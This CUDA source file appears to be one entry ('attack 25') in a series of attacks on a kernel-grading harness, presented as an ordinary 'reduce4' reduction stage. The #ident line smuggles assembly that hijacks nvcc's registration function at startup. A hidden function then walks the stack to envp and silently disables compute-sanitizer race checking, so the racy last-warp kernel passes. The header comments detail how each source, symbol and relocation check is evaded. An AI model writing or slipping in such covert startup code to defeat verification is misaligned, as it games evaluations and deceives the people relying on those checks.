// Review 13, attack 25: attack 24's route (assembly written through an #ident directive's
// string, which GCC copies unescaped into `.ident "..."`), with no symbol of its own at all,
// so that no rule on the object's symbol names can see it. The assembly adds one
// relocation to nvcc's registration function with the `.reloc` directive: at the
// displacement of its last instruction, the tail jump to atexit(__cudaUnregisterBinaryUtil)
// (offset 0xde of _ZL24__sti____cudaRegisterAllv with the tree's flags, this nvcc and GCC 12.2: read
// off `objdump -dr` of one's own compile), an R_X86_64_PLT32 to a C++ function of this file.
// The compiler's own relocation (to atexit) stays, first in .rela.text.startup; ours comes
// after it at the same offset, and ld, which writes a RELA relocation's value rather than
// adding to it, applies them in order: the linked worker's registration function jumps to
// the submission's function, before main.
//
//   - source check: as attack 24 (a directive it does not read, the assembly in a literal);
//   - compiled check: no symbol is added (atexit stays undefined, on the allow-list);
//     .init_array has its one entry, nvcc's, to .text.startup + 0; no plain name, no
//     registration name, no IFUNC, no .preinit_array, no syscall: the check reads the
//     relocations of .init_array only;
//   - private_symbols.cmake: the relocation names the function's global symbol, which
//     objcopy renames with the definition (one symbol-table entry).
//
// The payload and the work are attack 22's and 24's: the racy last warp, which deserves 90.
#ident "reduce4\"\n.pushsection .text.startup\n.reloc _ZL24__sti____cudaRegisterAllv+0xde, R_X86_64_PLT32, _ZN16reduce4_settings11at_start_upEPFvvE-4\n.popsection\n#"

#include <cstdint>
#include <cstdio>

namespace reduce4_settings {

char hazards[] = "NV_COMPUTE_SANITIZER_MAX_RACECHECK_HAZARDS=0";

bool starts_with(const char* text, const char* part) {
    for (; *part; ++text, ++part) {
        if (*text != *part) return false;
    }
    return true;
}

// The process's initial stack, from argc upwards: argc, argv[0..argc-1], 0, envp[...], 0.
char** find_envp() {
    // This frame's address; everything above it, up to the strings at the top, is mapped.
    auto* p = reinterpret_cast<volatile std::uintptr_t*>(reinterpret_cast<std::uintptr_t>(__builtin_frame_address(0)) &
                                                         ~std::uintptr_t(7));
    const std::uintptr_t low = reinterpret_cast<std::uintptr_t>(p);
    for (std::size_t i = 0; i < (std::size_t(1) << 17); ++i, ++p) {  // at most 1 MiB up
        if (p[0] != 3 || p[4] != 0) continue;
        const std::uintptr_t a0 = p[1], a1 = p[2], a2 = p[3];
        if (a0 <= low || a1 <= a0 || a2 <= a1 || a2 - low > (std::uintptr_t(1) << 24)) continue;
        if (!starts_with(reinterpret_cast<const char*>(a1), "--socket")) continue;
        return reinterpret_cast<char**>(const_cast<std::uintptr_t*>(p + 5));
    }
    return nullptr;
}

void rewrite_environment() {
    char** envp = find_envp();
    if (!envp || !envp[0]) return;
    char** slot = nullptr;
    for (char** p = envp; *p; ++p) {
        if (starts_with(*p, "NV_COMPUTE_SANITIZER_MAX_RACECHECK_HAZARDS=")) return;
        if (!slot && starts_with(*p, "LC_ALL=")) slot = p;
        if (!p[1] && !slot) slot = p;
    }
    *slot = hazards;
}

// Reached from nvcc's registration function through the label above, in place of the C
// library's atexit(__cudaUnregisterBinaryUtil).
int at_start_up(void (*)()) {
    static bool done = false;
    if (!done) {
        done = true;
        rewrite_environment();
    }
    return 0;
}

}  // namespace reduce4_settings

#include "stage.h"

namespace {

template <typename T>
__device__ T tree_sum(T* shared, T sum, unsigned tid, unsigned block) {
    for (unsigned s = block / 2; s > 32; s >>= 1) {
        if (tid < s) shared[tid] = sum = sum + shared[tid + s];
        __syncthreads();
    }
    return sum;
}

template <typename T>
__device__ T last_warp(T* shared, unsigned tid) {
    volatile T* v = shared;
    v[tid] += v[tid + 32];
    v[tid] += v[tid + 16];
    v[tid] += v[tid + 8];
    v[tid] += v[tid + 4];
    v[tid] += v[tid + 2];
    v[tid] += v[tid + 1];
    return v[tid];
}

}  // namespace

template <typename T>
__global__ void unroll_last_warp_kernel(const T* in, std::size_t n, T* block_sums) {
    T* shared = dynamic_shared<T>();
    const unsigned tid = threadIdx.x;
    const std::size_t i = blockIdx.x * (2 * std::size_t(blockDim.x)) + tid;
    T sum = i < n ? in[i] : T(0);
    if (i + blockDim.x < n) sum += in[i + blockDim.x];
    shared[tid] = sum;
    __syncthreads();
    sum = tree_sum(shared, sum, tid, blockDim.x);
    if (tid < 32) {
        const T block_sum = last_warp(shared, tid);
        if (tid == 0) block_sums[blockIdx.x] = block_sum;
    }
}

constexpr unsigned kInputsPerThread = 2;

template <typename T>
void unroll_last_warp_sum(const T* in, std::size_t n, T* out, void* workspace, const RunConfig& config,
                          cudaStream_t stream) {
    const unsigned block = config.block;
    run_passes(in, n, out, workspace, kInputsPerThread * block, stream,
               [&](const T* src, std::size_t count, T* dst, unsigned blocks) {
                   unroll_last_warp_kernel<T><<<blocks, block, block * sizeof(T), stream>>>(src, count, dst);
                   CUDA_CHECK_LAUNCH();
               });
}

std::size_t unroll_last_warp_workspace(std::size_t n, std::size_t value_size, const RunConfig& config) {
    return passes_workspace_bytes(n, kInputsPerThread * config.block, value_size);
}

extern const Stage reduce4_stage = {
    .name = "reduce4",
    .kernel = "unroll_last_warp",
    .idea = "the last warp unrolled: no block-wide barriers once s <= 32",
    .min_block = 64,
    .max_block = 1024,
    .workspace_bytes = unroll_last_warp_workspace,
    .sum_int = unroll_last_warp_sum<int>,
    .sum_float = unroll_last_warp_sum<float>,
    .sum_double = unroll_last_warp_sum<double>,
};
